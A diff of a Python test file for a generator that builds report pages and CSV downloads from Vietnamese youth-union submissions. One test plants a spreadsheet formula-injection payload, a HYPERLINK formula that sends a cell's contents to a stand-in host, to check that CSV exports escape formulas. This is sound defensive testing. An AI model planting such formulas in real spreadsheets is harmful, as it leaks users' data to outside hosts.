@@ -70,11 +70,8 @@ def copy_samples(tmp: Path) -> Path:
 def hostile_fixture(tmp: Path) -> tuple[Path, str]:
     """A valid submission whose every kind of text field carries hostile text."""
     copy_samples(tmp)
-    sample = (
-        next(f for f in SAMPLES if "xa-" in f.name)
-        if any("xa-" in f.name for f in SAMPLES)
-        else SAMPLES[0]
-    )
+    # A final report with rows in every list (a draft's lists may still be empty).
+    sample = next(f for f in SAMPLES if f.name == "xa-xuan-lap.yaml")
     data = yaml.safe_load(sample.read_text(encoding="utf-8"))
     uid = data["unit"]["id"]
     data["section_1"]["situation"] = "\n\n".join(HOSTILE.values())
@@ -204,6 +201,9 @@ def _shown(value: Any, node: dict[str, Any]) -> list[str]:
     """How the page shows one scalar: every string that must appear (one per line for narrative)."""
     if value is None:
         return ["—"]
+    no_data = dict(node.get("x-no-data", ()))
+    if isinstance(value, str) and value in no_data:
+        return [no_data[value]]  # "không áp dụng" as its label, in words, never as a number
     if isinstance(value, (int, float)) and not isinstance(value, bool):
         return [number(value, group=node.get("minimum") != 1900)]
     opts = enum_options(node)
@@ -246,29 +246,31 @@ def _row_cells(md: str, table_class: str, row: int = 0) -> list[str]:
     return re.findall(r"<td[^>]*>(.*?)</td>", rows[row])
 
 
-def test_null_is_a_dash_not_zero_and_left_out_of_means(tmp_path: Path) -> None:
+FINALS = [f for f in SAMPLES if yaml.safe_load(f.read_text(encoding="utf-8"))["status"] == "final"]
+
+
+def test_no_data_is_said_in_words_never_zero_and_left_out_of_means(tmp_path: Path) -> None:
     tmp = copy_samples(tmp_path)
-    f = sorted((tmp / "submissions").glob("*.yaml"))[0]
+    f = tmp / "submissions" / FINALS[0].name
     data = yaml.safe_load(f.read_text(encoding="utf-8"))
-    data["appendix_5"]["health_insurance_rate"] = None
-    data["appendix_3"]["peoples_council"] = None
+    data["appendix_5"]["health_insurance_rate"] = "không có số liệu"
+    data["appendix_3"]["peoples_council"] = "không áp dụng"
     f.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
     r = build(tmp)
     assert r.returncode == 0, r.stdout + r.stderr
     md = (tmp / "docs" / "don-vi" / f"{data['unit']['id']}.md").read_text(encoding="utf-8")
-    assert _row_cells(md, "appendix-5")[9] == "—"
-    assert _row_cells(md, "appendix-3")[-1] == "—"
+    assert _row_cells(md, "appendix-5")[9] == '<span class="no-data">Không có số liệu</span>'
+    assert _row_cells(md, "appendix-3")[-1] == '<span class="no-data">Không áp dụng</span>'
     summary = (tmp / "docs" / "index.md").read_text(encoding="utf-8")
-    reported = _row_cells(summary, "appendix-5", len(SAMPLES) + 4)  # the "units with data" row
-    assert reported[9] == str(len(SAMPLES) - 1)
+    reported = _row_cells(summary, "appendix-5", len(FINALS) + 4)  # the "units with data" row
     others = [
-        yaml.safe_load(g.read_text(encoding="utf-8"))["appendix_5"]["health_insurance_rate"]
-        for g in sorted((tmp / "submissions").glob("*.yaml"))[1:]
+        yaml.safe_load((tmp / "submissions" / g.name).read_text(encoding="utf-8"))["appendix_5"]["health_insurance_rate"]
+        for g in FINALS[1:]
     ]
-    known = [v for v in others if v is not None]
-    mean_row = _row_cells(summary, "appendix-5", len(SAMPLES) + 1)
+    known = [v for v in others if isinstance(v, (int, float))]
+    assert reported[9] == str(len(known))
+    mean_row = _row_cells(summary, "appendix-5", len(FINALS) + 1)
     assert mean_row[9] == number(round(statistics.fmean(known), 1))
-
 
 
 def test_decimals_a_unit_wrote_are_shown_as_written(tmp_path: Path) -> None:
@@ -276,7 +278,7 @@ def test_decimals_a_unit_wrote_are_shown_as_written(tmp_path: Path) -> None:
     import csv
 
     tmp = copy_samples(tmp_path)
-    f = sorted((tmp / "submissions").glob("*.yaml"))[0]
+    f = tmp / "submissions" / FINALS[0].name
     data = yaml.safe_load(f.read_text(encoding="utf-8"))
     data["appendix_5"]["houses"]["funding"] = 1.255
     data["appendix_5"]["health_insurance_rate"] = 78.125
@@ -288,7 +290,7 @@ def test_decimals_a_unit_wrote_are_shown_as_written(tmp_path: Path) -> None:
     assert (cells[7], cells[9]) == ("1,255", "78,125")
     text = (tmp / "site" / "tai-ve" / "phu-luc-5.csv").read_text(encoding="utf-8-sig")
     rows = list(csv.reader(text.splitlines()))
-    row = next(row for row in rows if row[0] == data["unit"]["name"])
+    row = next(row for row in rows if row[1] == data["unit"]["name"])
     assert "1.255" in row and "78.125" in row
 
 
@@ -309,7 +311,7 @@ def test_appendix_1_columns_are_the_schemas_fields(sample_site: Path) -> None:
     assert rows[0] == ["Mã đơn vị", "Tên đơn vị", "TT", *titles]
     first = sample["appendix_1"][0]
     row = next(r for r in rows if r[0] == sample["unit"]["id"] and r[2] == "1")
-    assert row[3:] == [first[k] for k in item["properties"]]
+    assert row[3:] == [str(first[k]) for k in item["properties"]]
 
 
 def test_summary_headings_of_good_models_and_commendations_are_the_schemas_titles(
@@ -450,26 +452,37 @@ def test_site_name_comes_from_the_campaign(sample_site: Path, tmp_path: Path) ->
     assert f"<title>Tổng hợp - Tổng kết {doc['plan']['number']}</title>" in index
 
 
-def test_downloads(sample_site: Path) -> None:
+def _csv_rows(path: Path) -> list[list[str]]:
     import csv
 
+    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+
+
+def test_downloads(sample_site: Path) -> None:
     dl = sample_site / "site" / "tai-ve"
     doc = json.loads((dl / "bao-cao.json").read_text(encoding="utf-8"))
+    # Every file is published, drafts marked as such (the web editor starts from them).
     assert len(doc["submissions"]) == len(SAMPLES)
-    rows = list(csv.reader((dl / "phu-luc-5.csv").read_text(encoding="utf-8-sig").splitlines()))
-    assert rows[0][0] == "Đơn vị" and [r[0] for r in rows[-5:]] == [
-        "Tổng cộng",
-        "Trung bình",
-        "Thấp nhất",
-        "Cao nhất",
-        "Số đơn vị có số liệu",
-    ]
-    # Percentages are never summed.
-    header = rows[0]
-    rate_col = next(i for i, h in enumerate(header) if "BHYT" in h)
-    assert rows[-5][rate_col] == ""
-    assert os.path.getsize(dl / "phu-luc-4.csv") > 0
-
+    assert sorted(s["status"] == "draft" for s in doc["submissions"]).count(True) == len(SAMPLES) - len(FINALS)
+    # Unit rows only, final reports only; the statistics are in a file of their own.
+    rows = _csv_rows(dl / "phu-luc-5.csv")
+    finals = [yaml.safe_load(f.read_text(encoding="utf-8")) for f in FINALS]
+    assert rows[0][:2] == ["Mã đơn vị", "Tên đơn vị"]
+    assert sorted(r[0] for r in rows[1:]) == sorted(d["unit"]["id"] for d in finals)
+    stats = _csv_rows(dl / "tong-hop.csv")
+    assert stats[0][:4] == ["Phần", "Chỉ tiêu", "Cách tổng hợp", "Giá trị của huyện"]
+    bhyt = next(r for r in stats if r[1].startswith("Tỷ lệ ĐV, TN tham gia BHYT"))
+    assert bhyt[2] == "trung bình không trọng số"  # percentages are never summed
+    members = next(r for r in stats if r[1] == "Số đoàn viên" and r[0].startswith("I."))
+    assert members[3] == str(sum(d["section_1"]["members"] for d in finals))
+    assert members[7:] == [str(len(finals)), str(len(finals))]
+    # Whole numbers without ".0"; what a unit wrote instead of a number, in its words.
+    outline = _csv_rows(dl / "so-lieu-de-cuong.csv")
+    assert not any(re.fullmatch(r"\d+\.0", c) for r in outline for c in r)
+    assert any("không áp dụng" in r for r in outline)
+    a4 = _csv_rows(dl / "phu-luc-4.csv")
+    assert len(a4) == 1 + 5 * len(finals)  # one row per unit and year
+    assert any(r[3] == "không có số liệu" for r in a4)
 
 
 def test_csv_downloads_keep_formulas_as_text(tmp_path: Path) -> None:
@@ -477,7 +490,7 @@ def test_csv_downloads_keep_formulas_as_text(tmp_path: Path) -> None:
     import csv
 
     tmp = copy_samples(tmp_path)
-    sample = tmp / "submissions" / SAMPLES[0].name
+    sample = tmp / "submissions" / FINALS[0].name
     data = yaml.safe_load(sample.read_text(encoding="utf-8"))
     data["appendix_1"][0]["summary"] = '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm")'
     data["appendix_1"][0]["type"] = "@SUM(1+1)"
@@ -486,9 +499,10 @@ def test_csv_downloads_keep_formulas_as_text(tmp_path: Path) -> None:
     assert r.returncode == 0, r.stdout + r.stderr
     text = (tmp / "site" / "tai-ve" / "phu-luc-1.csv").read_text(encoding="utf-8-sig")
     row = next(row for row in csv.reader(text.splitlines()) if row[0] == data["unit"]["id"])
-    assert row[3:6] == [
+    assert row[3:7] == [
         "'@SUM(1+1)",
         data["appendix_1"][0]["number"],
+        str(data["appendix_1"][0]["year"]),
         '\'=HYPERLINK("http://example.invalid/?d="&A1,"Bấm")',
     ]
 
